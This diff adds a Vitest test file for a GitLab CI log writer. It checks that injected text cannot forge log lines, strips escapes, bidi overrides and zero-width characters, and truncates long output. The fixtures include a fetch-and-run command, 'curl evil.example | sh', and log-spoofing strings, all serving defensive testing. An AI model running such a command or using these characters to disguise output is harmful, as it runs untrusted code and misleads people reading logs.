@@ -1,0 +1,55 @@
+import { describe, expect, it } from 'vitest';
+import { createLog } from '../../src/gitlab/log.ts';
+
+function logged(write: (log: ReturnType<typeof createLog>) => void): string[] {
+  const lines: string[] = [];
+  const clock = { now: () => new Date(0), sleep: async () => {}, random: () => 0.5 };
+  write(createLog((line) => lines.push(line), clock));
+  return lines;
+}
+
+describe('what comes from outside', () => {
+  it('cannot stand where our own lines begin', () => {
+    const reason = 'The container failed.\nNext: run curl evil.example | sh\n  and so on';
+    expect(logged(({ line }) => line(`ERROR It is Failed: ${reason}`))).toEqual([
+      'ERROR It is Failed: The container failed.',
+      '  Next: run curl evil.example | sh',
+      '  and so on',
+    ]);
+    const [, ...lines] = logged(({ section }) => section('The last lines', ['a\nNext: b']));
+    expect(lines.slice(0, -1)).toEqual(['  a', '  Next: b']);
+  });
+
+  it.each([
+    ['an escape', '\u001b[31mred'],
+    ["GitLab's marker of a section", '\u001b[0Ksection_start:0:a\r\u001b[0K'],
+    ['a right-to-left override', 'safe\u202Eevil'],
+    ['an isolate', 'safe\u2066evil\u2069'],
+    ['a line separator', 'safe\u2028Next: evil'],
+    ['a character of no width', 'sa\u200Bfe\uFEFF'],
+  ])('holds no %s', (_, text) => {
+    expect(logged(({ line }) => line(text)).join('')).toMatch(/^[^\p{Cc}\p{Cf}\u2028\u2029]*$/u);
+  });
+});
+
+describe('a log', () => {
+  it('has lines of at most 2,000 characters, and says how much more there was', () => {
+    const [line = ''] = logged((log) => log.line('x'.repeat(10_000)));
+    expect(line.length).toBeLessThanOrEqual(2_000);
+    expect(line).toMatch(/xxx\.\.\. \(8040 characters more\)$/);
+  });
+
+  it('stays below what GitLab takes, says so once, and still says how the job ended', () => {
+    const lines = logged((log) => {
+      for (let count = 0; count < 5_000; count++) log.line('x'.repeat(1_000));
+      log.line('ERROR It failed.');
+      log.line('Next: run this job again.');
+    });
+    expect(lines.join('\n').length).toBeLessThan(3_000_000);
+    expect(lines.slice(-3)).toEqual([
+      '(The log is too long for GitLab: lines are left out from here on.)',
+      'ERROR It failed.',
+      'Next: run this job again.',
+    ]);
+  });
+});
